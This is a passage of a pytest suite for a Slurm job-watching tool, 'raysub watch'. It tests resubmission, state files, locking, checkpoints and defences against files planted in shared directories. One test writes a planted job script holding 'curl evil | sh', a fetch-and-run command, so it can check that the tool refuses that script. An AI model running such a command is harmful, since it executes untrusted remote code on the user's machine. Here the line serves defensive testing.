        "ended_at": START - 100,
        "outcome": "TIMEOUT",
        "exit_code": 0,
        "quick": False,
        "fault": None,
        "failed_nodes": ["node7"],
    }


def test_a_version_1_state_file_still_loads(script: Path) -> None:
    old = {
        "version": 1,
        "script": str(script),
        "workdir": str(script.parent),
        "job_id": "100",
        "next_action": "poll",
        "history": [{"job_id": "100", "submitted_at": START, "resume_from": None, "quick": False}],
    }
    state = WatchState.from_json(json.dumps(old))
    assert state.excluded == [] and state.history[0].failed_nodes == [] and state.current is not None


@pytest.mark.parametrize("version", [1, 2])
def test_an_older_state_files_restarts_are_its_resubmissions(script: Path, version: int) -> None:
    """A run an older raysub watched goes on with its count: those files call resubmissions restarts."""
    old = {"version": version, "script": str(script), "workdir": str(script.parent), "restarts": 4}
    state = WatchState.from_json(json.dumps(old))
    assert state.resubmissions == 4
    saved = json.loads(state.to_json())
    assert (saved["version"], saved["resubmissions"]) == (3, 4) and "restarts" not in saved


NOT_STATES = [
    "",
    "[]",
    '{"version": 4}',
    '{"version": 1, "script": "x"}',
    '{"version": 1, "script": "x", "workdir": "y", "next_action": "dance"}',
    '{"version": 1, "script": "x", "workdir": "y", "history": [{"job": 1}]}',
]


@pytest.mark.parametrize("text", NOT_STATES)
def test_a_state_file_that_is_not_one_is_an_error(script: Path, text: str) -> None:
    files = files_of(script)
    files.state.write_text(text)
    with pytest.raises(WatchError, match="is not a raysub watch state"):
        load_state(files)


class Interrupt(Exception):
    pass


def test_a_new_watcher_resumes_the_run_and_adopts_its_job(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[ended("PREEMPTED")], [RUNNING, RUNNING, COMPLETED]])

    def sleep_then_die(seconds: float) -> None:
        clock.sleep(seconds)
        if len(fake.submitted) == 2 and len(fake.asked) == 2:
            raise Interrupt  # the watcher dies (a login node reboots) while job 101 runs

    with pytest.raises(Interrupt):
        watching.run(Target(script, script.parent), None, replace(settings(clock), sleep=sleep_then_die))
    saved = load_state(files_of(script))
    assert saved is not None
    assert (saved.job_id, saved.resubmissions, saved.next_action) == ("101", 1, Next.POLL)

    lines: list[str] = []
    final = watch(script, clock, lines=lines)
    assert final.succeeded and final.resubmissions == 1
    assert len(fake.submitted) == 2  # no new job: the running one was adopted
    assert [h.job_id for h in final.history] == ["100", "101"]
    assert "resuming the run of" in lines[0] and "1 resubmissions so far, watching job 101" in lines[0]
    assert fake.asked[2][0] == "101"


def test_a_watcher_resumes_a_backoff_where_it_was(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    state = WatchState(str(script), str(script.parent), resubmissions=1, next_action=Next.SUBMIT)
    state.next_action_at = START + 25
    state.history.append(Attempt("90", START - 600, outcome="TIMEOUT"))
    files_of(script).state.write_text(state.to_json())
    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
    final = watch(script, clock, checkpoints=Checkpoints(script.parent))
    assert clock.sleeps[0] == 25
    assert fake.submitted[0][2] == {protocol.CHECKPOINT_DIR_ENV: str(script.parent)}
    assert final.succeeded and final.resubmissions == 2


def test_a_job_id_is_adopted_without_a_submission(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
    fake.answers["4711"] = [RUNNING, ended("TIMEOUT")]
    final = watch(script, clock, job_id="4711")
    assert [h.job_id for h in final.history] == ["4711", "100"]
    assert final.history[0].submitted_at is None
    assert fake.asked[0] == ("4711", START)  # at once
    assert final.succeeded and final.resubmissions == 1


def test_a_finished_run_starts_anew_and_another_jobs_run_is_refused(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    FakeSlurm(monkeypatch, clock, [[COMPLETED], [ended("FAILED")], [COMPLETED]])
    assert watch(script, clock).succeeded
    lines: list[str] = []
    final = watch(script, clock, lines=lines)
    assert "the last run ended (job 100 completed); a new run" in lines[0]
    assert [h.job_id for h in final.history] == ["101", "102"] and final.resubmissions == 1

    files = files_of(script)
    running = WatchState(str(script), str(script.parent), job_id="102", next_action=Next.POLL)
    running.history.append(Attempt("102"))
    files.state.write_text(running.to_json())
    with pytest.raises(WatchError, match="watches job 102, not 4711"):
        watch(script, clock, job_id="4711")
    other = script.parent / "other" / "job.sub"
    other.parent.mkdir()
    other.write_text("")
    with pytest.raises(WatchError, match="belongs to another script"):
        watching.run(Target(other, other.parent), script.parent, settings(clock))


def test_the_lock_refuses_a_second_watcher(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
    files = files_of(script)
    files.state.write_text(WatchState(str(script), str(script.parent), watcher="4242@login2").to_json())
    with locked(files), pytest.raises(WatchError) as refused:
        watch(script, clock)
    assert str(refused.value) == (
        f"another raysub watch (4242@login2) is watching this run: {files.lock} is locked; "
        "stop that watcher first, or leave it be"
    )
    assert fake.submitted == []
    assert watch(script, clock).succeeded  # free again once the first one is gone


# ---- checkpoints, the stall hook, finding a job's LOG_DIR


def test_checkpoint_dir_asks_raysub_node_checkpoints(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[Path] = []

    class Checkpoint:
        path = Path("step-40")

    def latest_checkpoint(directory: Path, marker: str | None = None) -> Checkpoint | None:
        asked.append(directory)
        return Checkpoint() if len(asked) > 1 else None

    module = types.ModuleType("raysub.job.lib.checkpoints")
    module.latest_checkpoint = latest_checkpoint  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "raysub.job.lib.checkpoints", module)
    checkpoints = Checkpoints(tmp_path)
    assert checkpoints.latest() is None
    assert checkpoints.latest() == Path("step-40").absolute()
    assert asked == [tmp_path, tmp_path]


def test_a_checkpoint_dir_is_checked_before_the_run(tmp_path: Path) -> None:
    missing = tmp_path / "typo"
    with pytest.raises(WatchError, match=r"typo does not exist on .*--create-checkpoint-dir"):
        Checkpoints.checked(missing, None, create=False)
    assert not missing.exists()
    made = Checkpoints.checked(missing, "DONE", create=True)
    assert missing.is_dir() and made == Checkpoints(missing, "DONE")
    (tmp_path / "file").write_text("")
    with pytest.raises(WatchError, match="is not a directory"):
        Checkpoints.checked(tmp_path / "file", None, create=True)
    # A file system only the compute nodes mount: it cannot be made here, so each job's head makes it.
    unmounted = Path("/proc/self/fdinfo/scratch/ckpt")  # nothing can be made under it, even by root
    later = Checkpoints.checked(unmounted, None, create=True)
    assert later.create and later.env() == {
        protocol.CHECKPOINT_DIR_ENV: str(unmounted),
        protocol.CREATE_CHECKPOINT_DIR_ENV: "1",
    }
    assert protocol.CREATE_CHECKPOINT_DIR_ENV not in made.env()
    for run in ("a", "b"):  # two runs side by side: which is newest cannot be told
        (tmp_path / "two" / run / "checkpoint-5").mkdir(parents=True)
        (tmp_path / "two" / run / "checkpoint-5" / "trainer_state.json").write_text("{}")
    with pytest.raises(WatchError, match="run's own directory"):
        Checkpoints.checked(tmp_path / "two", None, create=False)


def test_the_default_stall_check_never_says_stalled(tmp_path: Path) -> None:
    assert watching.never_stalled(Job("1", 0, LogDir(tmp_path))) is None


def test_a_jobs_log_dir_is_found_under_the_base_or_through_the_job_index(
    tmp_path: Path, job_index: Path
) -> None:
    (tmp_path / "5-logs").mkdir()
    (tmp_path / "5-1-logs").mkdir()
    found = watching.log_dir_of("5", tmp_path)
    assert found is not None and found.attempt == 1
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "6-logs").mkdir(parents=True)
    assert watching.log_dir_of("6", tmp_path) is None
    append_job_index(job_index, IndexEntry("6", 0, elsewhere / "6-logs", int(START)))
    found = watching.log_dir_of("6", tmp_path)
    assert found is not None and found.logs.path == elsewhere / "6-logs"


# ---- raysub.slurm: sbatch, scancel and scontrol's record, against stand-ins on PATH


@pytest.fixture
def fake_bin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    yield bin_dir


def stand_in(bin_dir: Path, name: str, body: str) -> None:
    path = bin_dir / name
    path.write_text(f"#!/usr/bin/env bash\n{body}\n")
    path.chmod(0o755)


def test_submit_runs_sbatch_parsable_with_the_resume_export(fake_bin: Path, tmp_path: Path) -> None:
    record = tmp_path / "argv"
    stand_in(
        fake_bin, "sbatch", f'printf "%s\\n" "$PWD" "$@" "$RAYSUB_RESUME_FROM" > {record}\necho "4242;c1"'
    )
    workdir = tmp_path / "submit"
    workdir.mkdir()
    script = tmp_path / "job.sub"
    assert slurm.submit(script, workdir, {protocol.RESUME_FROM: "/ckpt/step 9"}) == "4242"
    assert record.read_text().splitlines() == [
        str(workdir),
        "--parsable",
        "--export=ALL,RAYSUB_RESUME_FROM=/ckpt/step 9",
        str(script),
        "/ckpt/step 9",
    ]
    # --export cannot carry a comma: the value goes through sbatch's environment, named alone.
    assert slurm.submit(script, workdir, {protocol.RESUME_FROM: "/ckpt/a,b"}) == "4242"
    assert record.read_text().splitlines()[2:] == [
        "--export=ALL,RAYSUB_RESUME_FROM",
        str(script),
        "/ckpt/a,b",
    ]
    slurm.submit(script, workdir)
    assert record.read_text().splitlines()[1:3] == ["--parsable", str(script)]


def test_sbatch_and_scancel_failures_carry_their_complaint(fake_bin: Path, tmp_path: Path) -> None:
    stand_in(
        fake_bin, "sbatch", 'echo "sbatch: error: Batch job submission failed: Invalid account" >&2; exit 1'
    )
    stand_in(
        fake_bin, "scancel", 'echo "scancel: error: Kill job error on job id 7: Access denied" >&2; exit 1'
    )
    with pytest.raises(
        slurm.SlurmError, match=r"^sbatch: error: Batch job submission failed: Invalid account$"
    ):
        slurm.submit(tmp_path / "job.sub", tmp_path)
    with pytest.raises(
        slurm.SlurmError, match=r"^scancel: error: Kill job error on job id 7: Access denied$"
    ):
        slurm.cancel("7")
    stand_in(fake_bin, "sbatch", "echo Submitted batch job")
    with pytest.raises(slurm.SlurmError, match="printed no job id"):
        slurm.submit(tmp_path / "job.sub", tmp_path)


def test_batch_script_reads_command_and_workdir_from_scontrol(fake_bin: Path) -> None:
    line = (
        "JobId=4711 JobName=ray UserId=u(1) JobState=RUNNING Command=/home/u/my runs/job.sub "
        "WorkDir=/home/u/my runs StdErr=/home/u/my runs/slurm-4711.out"
    )
    stand_in(fake_bin, "scontrol", f"echo '{line}'")
    assert slurm.batch_script("4711") == BatchScript(
        Path("/home/u/my runs/job.sub"), Path("/home/u/my runs"), []
    )
    stand_in(fake_bin, "scontrol", "echo 'JobId=4712 Command=(null) WorkDir=/w'")
    assert slurm.batch_script("4712").script is None
    stand_in(fake_bin, "scontrol", "echo 'slurm_load_jobs error: Invalid job id specified' >&2; exit 1")
    assert slurm.batch_script("4713") == BatchScript(None, None, [])


# ---- the command


@pytest.fixture
def no_waiting(monkeypatch: pytest.MonkeyPatch) -> list[float]:
    slept: list[float] = []
    monkeypatch.setattr(time, "sleep", slept.append)
    return slept


def test_watch_command_runs_to_success(
    raysub_cli: RunCli, script: Path, monkeypatch: pytest.MonkeyPatch, no_waiting: list[float]
) -> None:
    monkeypatch.chdir(script.parent)
    fake = FakeSlurm(monkeypatch, fake_clock(), [[ended("TIMEOUT", 0)], [COMPLETED]])
    result = raysub_cli("watch", "job.sub", "--interval", "5", "--backoff", "1", "--backoff-max", "2")
    assert result.code == 0, result.stderr
    assert "submitted" in result.stdout and "job 101 completed" in result.stdout
    submitted, cwd, _ = fake.submitted[0]
    assert (submitted.read_bytes(), submitted.name, cwd) == (script.read_bytes(), script.name, script.parent)
    assert (script.parent / "job.sub.watch.json").is_file() and (
        script.parent / "job.sub.watch.log"
    ).is_file()
    assert len(no_waiting) == 3 and 1 <= no_waiting[1] <= 2


def test_watch_command_gives_up_with_exit_status_1(
    raysub_cli: RunCli, script: Path, monkeypatch: pytest.MonkeyPatch, no_waiting: list[float]
) -> None:
    FakeSlurm(monkeypatch, fake_clock(), [[ended("FAILED", 3)]])
    result = raysub_cli(
        "watch", str(script), "--no-retry-exit-codes", "2, 3", "--log-dir", str(script.parent)
    )
    assert result.code == 1
    assert "exit code 3, which --no-retry-exit-codes lists" in result.stdout


def test_watch_commands_old_max_restarts_still_works_unlisted(
    raysub_cli: RunCli, script: Path, monkeypatch: pytest.MonkeyPatch, no_waiting: list[float]
) -> None:
    """--max-restarts, --max-resubmissions' name before, is a hidden alias that says it is old."""
    fake = FakeSlurm(monkeypatch, fake_clock(), [[ended("FAILED")]] * 4)
    result = raysub_cli("watch", str(script), "--max-restarts", "3", "--log-dir", str(script.parent))
    assert result.code == 1
    assert "no resubmissions left (--max-resubmissions 3)" in result.stdout and len(fake.submitted) == 4
    assert "watch --max-restarts is now watch --max-resubmissions" in result.stderr
    both = raysub_cli("watch", str(script), "--max-restarts", "3", "--max-resubmissions", "2")
    assert both.code == 2 and "give only one of them" in both.stderr and len(fake.submitted) == 4
    shown = raysub_cli("watch", "--help").stdout
    assert "--max-resubmissions" in shown and "--max-restarts" not in shown


def test_watch_command_adopts_a_job_by_id(
    raysub_cli: RunCli, script: Path, monkeypatch: pytest.MonkeyPatch, no_waiting: list[float]
) -> None:
    fake = FakeSlurm(monkeypatch, fake_clock(), [])
    fake.answers["4711"] = [COMPLETED]
    monkeypatch.setattr(slurm, "batch_script", lambda job_id: BatchScript(script, script.parent, []))
    result = raysub_cli("watch", "4711")
    assert result.code == 0, result.stderr
    assert "adopting job 4711" in result.stdout and fake.submitted == []


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["4711"], "Slurm has no script of job 4711 on record (scontrol: down): pass the job script"),
        (["nope.sub"], "nope.sub: no such job script, and not a job id"),
        (["job.sub", "--backoff", "90", "--backoff-max", "30"], "must be from 0 to the maximum"),
        (["job.sub", "--no-retry-exit-codes", "1,x"], "is not a comma-separated list of exit codes"),
        (["job.sub", "--no-retry-exit-codes", "256"], "is not a comma-separated list of exit codes"),
        (["job.sub", "--interval", "1"], "--interval"),
    ],
)
def test_watch_command_usage_errors_are_one_line(
    raysub_cli: RunCli, script: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], message: str
) -> None:
    monkeypatch.chdir(script.parent)
    monkeypatch.setattr(slurm, "batch_script", lambda job_id: BatchScript(None, None, ["scontrol: down"]))
    result = raysub_cli("watch", *args)
    assert (result.code, result.stdout) == (2, "")
    assert message in result.stderr and result.stderr.count("\n") == 1


def test_watch_command_refuses_a_second_watcher(
    raysub_cli: RunCli, script: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(script.parent)
    with locked(files_of(script)):
        result = raysub_cli("watch", "job.sub")
    assert result.code == 1
    assert "another raysub watch is watching this run" in result.stderr


# ---- what watch trusts in a directory others may write (docs/watch.md, "What watch trusts")

OTHER_UID = 12345  # a uid of nobody's: another user


@pytest.mark.parametrize("kind", ["log", "lock", "state"])
def test_a_link_planted_in_place_of_a_runs_file_is_refused_and_its_target_untouched(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
    victim = script.parent / "victim"
    victim.write_text("the user's own file\n")
    planted = getattr(files_of(script), kind)
    planted.symlink_to(victim)
    with pytest.raises(WatchError) as refused:
        watch(script, clock)
    assert str(refused.value).startswith(f"refusing {planted}: it is a symbolic link")
    assert victim.read_text() == "the user's own file\n"
    assert fake.submitted == []


@pytest.mark.parametrize(("owner", "mode", "why"), [
    (OTHER_UID, 0o600, f"it belongs to uid {OTHER_UID}, not to you"),
    (0, 0o660, "its mode 0660 lets others write it"),
    (0, 0o646, "its mode 0646 lets others write it"),
])  # fmt: skip
def test_a_state_file_someone_else_wrote_or_may_write_is_refused(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch, owner: int, mode: int, why: str
) -> None:
    """Its workdir and job id would steer sbatch and scancel."""
    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
    files = files_of(script)
    steered = WatchState(str(script), "/elsewhere", job_id="4711", next_action=Next.POLL)
    files.state.write_text(steered.to_json())
    files.state.chmod(mode)
    os.chown(files.state, owner, owner)
    with pytest.raises(WatchError, match=f"^refusing {re.escape(str(files.state))}: {why}"):
        watch(script, clock)
    assert (fake.submitted, fake.cancelled, fake.asked) == ([], [], [])


def test_a_script_others_may_write_is_refused_before_anything_is_submitted(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
    script.chmod(0o664)  # umask 002 in a project directory: the group could rewrite what watch submits
    with pytest.raises(WatchError, match=f"^refusing {re.escape(str(script))}: its mode 0664 lets others"):
        watch(script, clock)
    assert fake.submitted == []


def test_a_replaced_script_is_not_resubmitted_and_the_log_says_so(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    original = script.read_bytes()
    fake = FakeSlurm(monkeypatch, clock, [[ended("FAILED")], [ended("TIMEOUT")], [COMPLETED]])

    def replace_script(job_id: str) -> None:  # another user's script put in its place, after the first
        planted = script.with_name("planted")
        planted.write_text("#!/bin/bash\ncurl evil | sh\n")
        os.chown(planted, OTHER_UID, OTHER_UID)
        planted.replace(script)

    fake.on_submit = replace_script
    lines: list[str] = []
    final = watch(script, clock, lines=lines)
    assert final.succeeded and fake.contents == [original] * 3
    changed = [line for line in lines if "has changed since the run started" in line]
    assert len(changed) == 2 and f"submitting the copy checked then, {final.script_copy}" in changed[0]


def _fifo(path: Path) -> None:
    os.mkfifo(path.with_name("fifo"))
    path.with_name("fifo").replace(path)


def _strangers_link(path: Path) -> None:  # to a file of the same bytes: only the link tells
    same = path.with_name("same")
    same.write_bytes(path.read_bytes())
    path.with_name("link").symlink_to(same)
    os.lchown(path.with_name("link"), OTHER_UID, OTHER_UID)
    path.with_name("link").replace(path)


@pytest.mark.parametrize(("put", "said"), [
    (_fifo, "has been replaced by something that is not a regular file"),
    (_strangers_link, f"has been replaced by a symbolic link of uid {OTHER_UID}'s"),
    (Path.unlink, "has been removed"),
])  # fmt: skip
def test_what_is_put_in_place_of_the_script_is_said_neither_waited_on_nor_submitted(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch, put: Callable[[Path], None], said: str
) -> None:
    original = script.read_bytes()
    fake = FakeSlurm(monkeypatch, clock, [[ended("FAILED")], [COMPLETED]])
    fake.on_submit = lambda job_id: put(script) if job_id == "100" else None

    def hung(signum: int, frame: object) -> None:
        raise TimeoutError("watch waited on what was put in place of the script")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(10)  # a FIFO read would block for ever
    try:
        lines: list[str] = []
        assert watch(script, clock, lines=lines).succeeded
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert fake.contents == [original] * 2
    said_line = next(line.split(" ", 1)[1] for line in lines if "since the run started" in line)
    assert said_line.startswith(f"{script} {said} since the run started; submitting the copy checked then")


def test_a_hard_link_planted_in_place_of_the_log_is_refused_and_its_target_untouched(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With fs.protected_hardlinks off, another user may give a file of yours a second name there."""
    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
    victim = script.parent / "victim"
    victim.write_text("the user's own file\n")
    victim.chmod(0o600)
    log = files_of(script).log
    os.link(victim, log)
    with pytest.raises(WatchError, match=f"^refusing {re.escape(str(log))}: it has 2 hard links"):
        watch(script, clock)
    assert victim.read_text() == "the user's own file\n"
    assert fake.submitted == []


def test_watch_command_says_what_it_refuses_in_one_line(
    raysub_cli: RunCli, script: Path, monkeypatch: pytest.MonkeyPatch, no_waiting: list[float]
) -> None:
    monkeypatch.chdir(script.parent)
    fake = FakeSlurm(monkeypatch, fake_clock(), [[COMPLETED]])
    victim = script.parent / "victim"
    victim.write_text("")
    (script.parent / "job.sub.watch.lock").symlink_to(victim)
    result = raysub_cli("watch", "job.sub")
    assert (result.code, result.stdout, fake.submitted) == (1, "", [])
    assert result.stderr == (
        f"raysub: error: refusing {script.parent / 'job.sub.watch.lock'}: it is a symbolic link, which "
        "someone else could have put there; remove it\n"
    )


def test_a_resumed_run_submits_the_copy_made_at_its_start(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    original = script.read_bytes()
    fake = FakeSlurm(monkeypatch, clock, [[ended("FAILED")], [COMPLETED]])
    files = files_of(script)
    kept = KeptScript.make(script)
    waiting = WatchState(str(script), str(script.parent), next_action=Next.SUBMIT, script_copy=str(kept.copy))
    files.state.write_text(waiting.to_json())
    script.write_text("#!/bin/bash\necho edited since\n")
    assert watch(script, clock).succeeded
    assert [path for path, _, _ in fake.submitted] == [kept.copy] * 2
    assert kept.copy.read_bytes() == original
    # A copy that is not one of the user's kept copies is refused.
    outside = script.parent / "copy.sub"
    outside.write_bytes(original)
    files.state.write_text(replace(waiting, script_copy=str(outside)).to_json())
    with pytest.raises(WatchError, match="which is not in"):
        watch(script, clock)


def test_a_filesystem_whose_flock_fails_leaves_the_run_going_with_a_warning(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])

    def failing(fd: int, operation: int) -> None:
        raise OSError(errno.ENOLCK, os.strerror(errno.ENOLCK))

    monkeypatch.setattr(fcntl, "flock", failing)
    lines: list[str] = []
    assert watch(script, clock, lines=lines).succeeded and len(fake.submitted) == 1
    assert (
        lines[0] == f"cannot lock {files_of(script).lock} (No locks available): make sure no other raysub "
        "watch runs this script from here"
    )


@pytest.mark.parametrize("line", ["#SBATCH --array=0-3", "#SBATCH --array 0-3%2", "#SBATCH -a 1,3"])
def test_an_array_jobs_script_is_refused_naming_why(tmp_path: Path, line: str) -> None:
    script = tmp_path / "sweep.sub"
    script.write_text(
        f"#!/bin/bash\n#SBATCH --nodes=2\n{line}\nset -e\n#SBATCH --array=ignored-after-a-command\n"
    )
    with pytest.raises(WatchError, match=r"is an array job \(#SBATCH --array\)"):
        watching.find_target(str(script))
    script.write_text("#!/bin/bash\n#SBATCH --nodes=2\nset -e\n#SBATCH --array=0-3\n")
    assert watching.find_target(str(script)).script == script.resolve()
